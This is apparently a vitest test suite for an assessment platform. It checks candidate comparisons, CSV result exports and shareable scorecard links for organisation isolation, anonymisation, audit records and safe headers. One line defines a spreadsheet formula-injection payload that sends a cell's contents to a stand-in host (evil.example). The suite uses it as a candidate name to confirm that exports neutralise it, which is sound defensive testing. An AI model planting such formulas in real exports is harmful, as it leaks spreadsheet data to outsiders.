// What leaves the platform: comparisons, results, and scorecards shown by a link.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Report } from '../api/grading/report.ts';
import { roles } from '../api/http/roles.ts';
import { sharedOf } from '../api/share/shared.ts';
import { parseCsv } from '../api/workspace/csv.ts';
import {
  Client,
  eventually,
  invite,
  publicUrl,
  signIn,
  startAttempt,
  startPlatform,
  submit,
  type TestPlatform,
} from './support/app.ts';
import { failedReport, fullReport, gradedReport } from './support/report.ts';

const person = 'Zebulon Quarx';
const formula = '=HYPERLINK("https://evil.example/?"&A1,"look")';
const source = 'const secretSauce = 7;';
const fileName = 'lib/sauce-recipe.js';

let platform: TestPlatform;
let manager: Client;
/** The same organisation's, who may read and not share. */
let reviewer: Client;
let graded: string;
let hostile: string;
let failed: string;
let report: Report;

beforeAll(async () => {
  platform = await startPlatform({ grade: async () => ({ report, evidence: null }) });
  manager = await signIn(platform);
  reviewer = await colleague('reviewer');
  report = tellingReport();
  graded = await gradedSubmission(person);
  hostile = await gradedSubmission(formula);
  report = failedReport('candidate_failure', {
    reason: `exit code 1, says ${person}`,
    log: [`/home/quarx: ${source}`, 'mail zq@quarx.example'],
  });
  failed = await gradedSubmission(person);
});
afterAll(() => platform.close());

/** A report in which the candidate wrote their name wherever a service can. */
function tellingReport(): Report {
  const full = fullReport();
  const bug = { path: fileName, line: 1, what: '“<” became “>=”', caught: true };
  const size = { files: 1, lines: 1, decisions: 0 };
  return {
    ...full,
    checks: full.checks.map((check) => ({
      ...check,
      message: check.message && `${person}: ${check.message}`,
    })),
    invariants: full.invariants!.map((fact) => ({
      ...fact,
      examples: [{ key: 'QUARX', expected: 'zq@quarx.example', seen: 'by zebulon_quarx' }],
    })),
    drills: full.drills!.map((drill) => ({
      ...drill,
      storm: { unreadable: `made by ${person}`, invariants: [] },
    })),
    maintainability: { tests: 'tried', testFiles: 1, bugs: [bug], size, referenceSize: size },
  };
}

async function colleague(role: string): Promise<Client> {
  const other = await signIn(platform, [role]);
  const { sql } = platform.database;
  await sql`update person set organisation_id = (select organisation_id from person where roles = '{manager}')`;
  return other;
}

async function gradedSubmission(name: string): Promise<string> {
  const candidate = await startAttempt(platform, await invite(manager, name));
  const { attemptId } = candidate;
  const body = { path: fileName, content: `// ${name} <zq@quarx.example>\n${source}\n`, baseRev: 0 };
  await candidate.call('PUT /api/attempts/:attemptId/file', { params: { attemptId }, body });
  const submissionId = await submit(candidate);
  await eventually(async () => expect((await scorecard(submissionId)).status).toBe(200));
  return submissionId;
}

const scorecard = (submissionId: string) =>
  manager.call('GET /api/submissions/:submissionId/scorecard', { params: { submissionId } });
const audited = async (action: string) =>
  platform.database.sql<{ subject: string; facts: object; personId: string | null }[]>`
    select subject, facts, person_id from audit where action = ${action} order by id`;

describe('a comparison', () => {
  const compared = (client: Client, picked: string) =>
    client.call('GET /api/comparison', { query: { with: picked } });

  test('holds those of the own organisation alone', async () => {
    const mine = await compared(manager, `${graded},${hostile},${failed}`);
    expect(mine.body.candidates.map(({ submissionId }) => submissionId)).toEqual([hostile, graded]);
    expect(mine.body.leftOut).toMatchObject([{ submissionId: failed, reasons: [{ what: 'did-not-run' }] }]);
    const theirs = await compared(await signIn(platform), `${graded},${hostile}`);
    expect(theirs.body).toMatchObject({ basis: null, candidates: [], measures: [] });
    expect(theirs.body.leftOut).toMatchObject([{ candidateName: null }, { candidateName: null }]);
    expect(theirs.text).not.toContain('Quarx');
  });

  test('tells those who only review no name before somebody has decided', async () => {
    const { body } = await compared(reviewer, `${graded},${hostile}`);
    expect(body.candidates).toHaveLength(2);
    for (const { candidateName } of body.candidates) expect(candidateName).toMatch(/^Candidate [0-9A-F]{6}$/);
    const { body: file } = await platform.app.inject({ url: '/api/results.csv', cookies: reviewer.cookies });
    expect(file).toMatch(/Candidate [0-9A-F]{6}/);
    expect(file).not.toContain('Quarx');
  });

  test('holds at most eight', async () => {
    const { problem } = await compared(manager, Array.from({ length: 9 }, (_, id) => id).join(','));
    expect(problem).toMatchObject({ status: 400, code: 'too-many' });
  });
});

describe('a table to take along', () => {
  const read = async (url: string, client = manager) => {
    const { statusCode, headers, body } = await platform.app.inject({ url, cookies: client.cookies });
    expect([statusCode, headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8; header=present']);
    expect(headers['content-disposition']).toMatch(/^attachment; filename="[a-z]+\.csv"$/);
    return parseCsv(body.replace(/^\ufeff/, ''));
  };

  test.each(['/api/results.csv', '/api/comparison.csv?with='])(
    '%s holds no formula, whatever a candidate is called',
    async (url) => {
      const rows = await read(url.endsWith('=') ? `${url}${graded},${hostile},${failed}` : url);
      expect(rows).toHaveLength(4);
      expect(rows.map(([name]) => name)).toEqual(expect.arrayContaining([`'${formula}`, person]));
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@\t\r\n]/);
    },
  );

  test('has every result with its numbers, of the own organisation alone', async () => {
    const [head, ...rows] = await read('/api/results.csv', reviewer);
    const cell = (row: string[], name: string) => row[head!.indexOf(name)];
    const results = rows.map((row) => [cell(row, 'Result'), cell(row, 'Score'), cell(row, 'Score, high')]);
    expect(results).toEqual(
      expect.arrayContaining([
        ['graded', '74.2', '78.8'],
        ['candidate_failure', '', ''],
      ]),
    );
    expect(await read('/api/results.csv', await signIn(platform))).toEqual([head]);
  });

  test('is on record with who took it', async () => {
    const before = (await audited('results.exported')).length;
    await read('/api/results.csv');
    const after = await audited('results.exported');
    expect(after).toHaveLength(before + 1);
    expect(after.at(-1)).toMatchObject({ facts: { rows: 3 }, personId: expect.any(String) as string });
  });
});

describe('a link to a scorecard', () => {
  const share = async (choices: object = {}, submissionId = graded) => {
    const { status, body } = await manager.call('POST /api/shares', { body: { submissionId, ...choices } });
    expect(status).toBe(201);
    return { ...body, token: body.link.split('/').pop()! };
  };
  /** Somebody without any cookie. */
  const open = (token: string) =>
    new Client(platform.app).call('POST /api/shares/open', { body: { token } }, {});
  const list = async (submissionId = graded) =>
    (await manager.call('GET /api/submissions/:submissionId/shares', { params: { submissionId } })).body;

  test('is told once, and shows the scorecard to whoever has it', async () => {
    const { link, token, share: made } = await share({ days: 3 });
    expect(link).toBe(`${publicUrl}/shared/${token}`);
    expect(made).toMatchObject({ state: 'open', opened: 0, lastOpenedAt: null, createdBy: 'Mia' });
    expect(Date.parse(made.expiresAt) - Date.parse(made.createdAt)).toBe(3 * 86_400_000);
    const { body } = await open(token);
    const { sentence, report: whole } = (await scorecard(graded)).body;
    expect(body).toMatchObject({ sentence, expiresAt: made.expiresAt, challenge: { title: 'Lost parcels' } });
    expect(body.report).toMatchObject({ outcome: 'graded', score: (whole as { score: object }).score });
    const rows = await platform.database.sql`select * from share_link`;
    expect(JSON.stringify([rows, await list()])).not.toContain(token);
  });

  test('is blind and without source unless both are chosen: neither is anywhere in its answer', async () => {
    for (const submissionId of [graded, failed]) {
      const { token } = await share({}, submissionId);
      const { status, text, body } = await open(token);
      expect([status, body.candidateName, body.files]).toEqual([200, null, null]);
      expect(text).not.toMatch(/zebulon|quarx/i);
      expect(text).not.toContain('@');
      expect(text).not.toMatch(/secretSauce|sauce|\.js\b/);
      expect(text).not.toContain(submissionId);
    }
  });

  test('may show the name, the source, or both; the source alone is blind too', async () => {
    const named = await open((await share({ showsName: true })).token);
    expect(named.body).toMatchObject({ candidateName: person, files: null });
    expect(named.text).not.toContain('secretSauce');
    const sourced = await open((await share({ showsSource: true })).token);
    expect(sourced.body.files?.find(({ path }) => path === fileName)).toMatchObject({
      after: `// [name] <[e-mail]>\n${source}\n`,
    });
    expect(sourced.text).not.toMatch(/zebulon|quarx/i);
    const log = await open((await share({ showsName: true, showsSource: true }, failed)).token);
    expect(log.text).toContain('mail zq@quarx.example');
  });

  test('without the source, what leads to a file leads to where the page says that there is none', () => {
    const row = {
      candidateName: person,
      slug: 'parcels',
      title: 'Lost parcels',
      submittedAt: new Date(),
      report: gradedReport(),
    };
    const changes = [{ path: fileName, before: null, after: `// TODO\n${source}\n` }];
    const anchors = (showsSource: boolean) =>
      sharedOf(row, changes, { showsName: false, showsSource }).questions.map(({ anchor, label }) => [
        anchor,
        label,
      ]);
    expect(anchors(true)).toContainEqual([`#file-${encodeURIComponent(fileName)}`, fileName]);
    expect(anchors(false)).toContainEqual(['#changes', 'the code']);
    expect(anchors(false).flat().join()).not.toContain('sauce');
  });

  test('unknown, expired and revoked ones get one same answer', async () => {
    const [revoked, expired] = [await share(), await share({ days: 1 })];
    const params = { shareId: revoked.share.id };
    expect((await manager.call('DELETE /api/shares/:shareId', { params })).body.state).toBe('revoked');
    platform.advance(86_400_001);
    const answers = await Promise.all(['x'.repeat(43), revoked.token, expired.token].map(open));
    platform.advance(-86_400_001);
    const [first, ...others] = answers.map(({ problem }) => ({ ...problem, requestId: '' }));
    expect(first).toMatchObject({ status: 404, code: 'unknown-share' });
    for (const other of others) expect(other).toEqual(first);
    expect((await open(expired.token)).status).toBe(200);
  });

  test('its list says how often it was opened, and when last', async () => {
    const { token, share: made } = await share();
    const before = platform.now().getTime();
    await open(token);
    await open(token);
    const found = (await list()).find(({ id }) => id === made.id)!;
    expect(found).toMatchObject({ state: 'open', opened: 2, showsName: false, showsSource: false });
    expect(Date.parse(found.lastOpenedAt!)).toBeGreaterThanOrEqual(before);
  });

  test('is made and revoked on record, once each', async () => {
    const { share: made } = await share({ days: 5, showsName: true });
    const params = { shareId: made.id };
    await manager.call('DELETE /api/shares/:shareId', { params });
    await manager.call('DELETE /api/shares/:shareId', { params });
    const mine = async (action: string) =>
      (await audited(action)).filter(({ subject }) => subject === made.id);
    expect(await mine('share.created')).toMatchObject([
      { facts: { days: 5, showsName: true, showsSource: false, submissionId: graded } },
    ]);
    expect(await mine('share.revoked')).toHaveLength(1);
  });

  test('is for those who may, of the own organisation, and for 1 to 90 days', async () => {
    const body = { submissionId: graded };
    const others = roles.filter((role) => role !== 'admin' && role !== 'manager');
    for (const role of others) {
      const other = await signIn(platform, [role]);
      expect((await other.call('POST /api/shares', { body })).status, role).toBe(403);
    }
    const stranger = await signIn(platform);
    expect((await stranger.call('POST /api/shares', { body })).problem.code).toBe('unknown-submission');
    const params = { shareId: (await share()).share.id };
    expect((await stranger.call('DELETE /api/shares/:shareId', { params })).problem.code).toBe(
      'unknown-share',
    );
    for (const days of [0, 91])
      expect((await manager.call('POST /api/shares', { body: { ...body, days } })).status).toBe(400);
  });

  test('stays out of search engines, caches and what other sites are told', async () => {
    const { token } = await share();
    const { headers } = await platform.app.inject({
      method: 'POST',
      url: '/api/shares/open',
      payload: { token },
    });
    expect(headers).toMatchObject({ 'x-robots-tag': 'noindex, nofollow', 'cache-control': 'no-store' });
    const page = await platform.app.inject({ url: `/shared/${token}` });
    expect(page.headers).toMatchObject({
      'x-robots-tag': 'noindex, nofollow',
      'referrer-policy': 'no-referrer',
    });
    expect(page.headers['set-cookie']).toBeUndefined();
  });
});
